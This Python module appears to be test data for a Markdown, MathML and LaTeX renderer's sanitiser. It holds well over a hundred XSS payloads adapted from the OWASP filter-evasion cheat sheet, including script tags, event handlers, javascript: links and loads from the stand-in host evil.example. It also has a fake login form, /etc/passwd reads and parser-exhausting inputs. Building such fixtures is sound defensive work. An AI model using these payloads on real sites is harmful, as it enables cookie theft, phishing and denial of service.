"""Texts that try to do something when they are shown.

The tricks are those of the OWASP XSS Filter Evasion Cheat Sheet (Cross-site scripting; see
https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), written for
Markdown, with such as only Markdown, MathML and LaTeX have.  Each calls ``alert`` or loads
something from ``evil.example`` if it works.
"""

# ruff: noqa: E501

from __future__ import annotations

_HTML = r'''
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script/xss src="https://evil.example/xss.js"></script>
<script/src=data:text/javascript,alert(1)></script>
<<script>alert(1);//\<</script>
<script src=//evil.example/.j>
<script src=https://evil.example/xss.js?< B >
</script><script>alert(1)</script>
</title><script>alert(1)</script>
<script\x20type="text/javascript">alert(1);</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="javascript:alert(1)">
<IMG SRC=JaVaScRiPt:alert(1)>
<IMG SRC=`javascript:alert("1")`>
<IMG """><SCRIPT>alert(1)</SCRIPT>"\>
<img src=# onmouseover="alert(1)">
<img src= onmouseover="alert(1)">
<img onmouseover="alert(1)">
<img src=/ onerror="alert(String.fromCharCode(88))"></img>
<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">
<img src="jav	ascript:alert(1);">
<img src="jav&#x09;ascript:alert(1);">
<img src="jav&#x0A;ascript:alert(1);">
<img src=" &#14; javascript:alert(1);">
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img src='vbscript:msgbox("1")'>
<img src="https://evil.example/pixel.png">
<img srcset="https://evil.example/pixel.png 2x">
<a onmouseover="alert(document.cookie)">x</a>
<a href="javascript:alert(1)">x</a>
<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">x</a>
<a href="java&NewLine;script&colon;alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:alert(1)">x</a>
<BODY ONLOAD=alert(1)>
<BODY BACKGROUND="javascript:alert(1)">
<body onload!#$%&()*~+-_.,:;?@[/|\]^`=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+#x"></use></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">
<input onfocus=alert(1) autofocus>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<button formaction="javascript:alert(1)">x</button>
<form action="https://evil.example"><input name=password><button>Log in</button></form>
<form><button formaction=javascript:alert(1)>x
<isindex type=image src=1 onerror=alert(1)>
<video src=x onerror=alert(1)></video>
<video poster=javascript:alert(1)//></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<BGSOUND SRC="javascript:alert(1);">
<BR SIZE="&{alert(1)}">
<LINK REL="stylesheet" HREF="https://evil.example/xss.css">
<STYLE>@import'https://evil.example/xss.css';</STYLE>
<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x
<STYLE>body{background:url("https://evil.example/pixel.png")}</STYLE>
<style>*{display:none}</style>
<div style="background-image: url(https://evil.example/pixel.png)">x</div>
<div style="width: expression(alert(1));">x</div>
<div style="position:fixed;inset:0;z-index:99999;background:white">Your session ended. Log in.</div>
<p style="font-size:10000px">x</p>
<XSS STYLE="behavior: url(https://evil.example/xss.htc);">
<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">
<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://evil.example">
<IFRAME SRC="javascript:alert(1);"></IFRAME>
<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>
<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="javascript:alert(1)">
<BASE HREF="https://evil.example/">
<base target="_self"><a href="x">x</a>
<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<EMBED SRC="https://evil.example/xss.swf" AllowScriptAccess="always"></EMBED>
<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
<? foo="><script>alert(1)</script>"?>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<a id=__proto__ name=cookie>x</a>
<form id=document><input name=cookie></form>
<x onclick=alert(1)>click</x>
<p contenteditable onbeforeinput=alert(1)>x</p>
<xss onpointerover=alert(1) style=display:block>x</xss>
+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-
¼script¾alert(¢1¢)¼/script¾
\";alert(1);//
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
'';!--"<XSS>=&{()}
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
'''

_MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](java%0ascript:alert(1))
[x](<java script:alert(1)>)
[x](  javascript:alert(1))
[x](\javascript:alert(1))
[x](vbscript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](file:///etc/passwd)
[x](blob:https://evil.example/1)
[x](//evil.example)
[x](run:"><img/src=x/onerror=alert(1)>)
[x](run:javascript:alert(1))
[x](https://evil.example"onmouseover="alert(1))
[x](https://x "title\"onmouseover=alert(1)")
[x](https://x 'title"onmouseover=alert(1) y="')
<javascript:alert(1)>
<https://x"onmouseover="alert(1)>
<data:text/html,x>
![x](javascript:alert(1))
![x](https://evil.example/pixel.png)
![x"onerror="alert(1)](x)
![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
[![x](https://evil.example/pixel.png)](javascript:alert(1))
[a]: javascript:alert(1) [a]
[a]\n\n[a]: javascript:alert(1)
`<script>alert(1)</script>`
``` "onmouseover="alert(1)
```html"><script>alert(1)</script>
~~~ <img src=x onerror=alert(1)>
| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |
# <svg/onload=alert(1)>
run:"<img src=x onerror=alert(1)>"
run:x"onclick="alert(1)
@x"onclick="alert(1)
https://x.example/"onmouseover="alert(1)
https://x.example/'onmouseover='alert(1)
https://x.example/<script>alert(1)</script>
cell:javascript:alert(1)
"""

_LATEX = r"""
$\href{javascript:alert(1)}{x}$
$\url{javascript:alert(1)}$
$\unicode{<img src=x onerror=alert(1)>}$
$\text{<img src=x onerror=alert(1)>}$
$\text{</mtext></math><script>alert(1)</script>}$
$\mbox{<iframe srcdoc='<script>alert(1)</script>'>}$
$<img src=x onerror=alert(1)>$
$</math><img src=x onerror=alert(1)>$
$\style{position:fixed;top:0}{x}$
$\class{jp-Button}{x}$
$\cssId{main}{x}$
$\html{<img src=x onerror=alert(1)>}$
$\require{html}\htmlData{x=y}{z}$
$\includegraphics{https://evil.example/pixel.png}$
$\def\a{\a\a}\a$
$\def\a{\b\b}\def\b{\a\a}\a$
$\newcommand{\x}{\x\x}\x$
$\color{red;background:url(https://evil.example)}{x}$
$\hspace{100000em}x$
$\kern-1000em x$
$\rule{10000em}{10000em}$
$\raise 1000em {x}$
$\Huge\Huge\Huge x$
$$\begin{array}{"onmouseover="alert(1)}x\end{array}$$
$$\begin{"><script>alert(1)</script>}x\end{x}$$
$$\input{/etc/passwd}$$
$$\tag{<script>alert(1)</script>}x$$
$\mathchoice{}{}{}{}$
$\catcode`\<=13$
$&lt;script&gt;alert(1)&lt;/script&gt;$
$\&#60;img src=x onerror=alert(1)&#62;$
"""

HOSTILE = [
    line.replace("\\n", "\n")
    for corpus in (_HTML, _MARKDOWN, _LATEX)
    for line in corpus.strip().splitlines()
]
"""Each a text that is to do nothing but be read."""

HEAVY = {
    "quotes": ">" * 1_000_000,
    "quotes with text": "> " * 33_000 + "x",
    "lists": "- " * 50_000,
    "nested lists": "\n".join(" " * (2 * depth) + "- x" for depth in range(300)),
    "brackets": "[" * 50_000,
    "pictures": "![" * 25_000,
    "links": "[a](b" * 16_000,
    "stars": "**a *b" * 16_000,
    "underlines": "_a__" * 24_000,
    "backticks": "".join("`" * length + " " for length in range(1, 440)),
    "dollars": "$a " * 33_000,
    "formulas": r"$\frac{a}{b}$ " * 7_000,
    "braces": "$" + "{" * 1_990 + "$",
    "fractions": "$" + r"\frac{" * 330 + "$",
    "references": "[a]: b\n" * 14_000,
    "columns": "|a" * 40_000 + "\n" + "|-" * 9_000,
    "tags": "<a " * 33_000,
    "entities": "&#" * 49_000,
    "mentions": "@a" * 49_000,
    "things": "run:" * 24_000,
    "addresses": "http://" * 14_000,
    "lines": "a\n" * 49_000,
}
"""Texts that are much work for a parser that goes about it badly."""
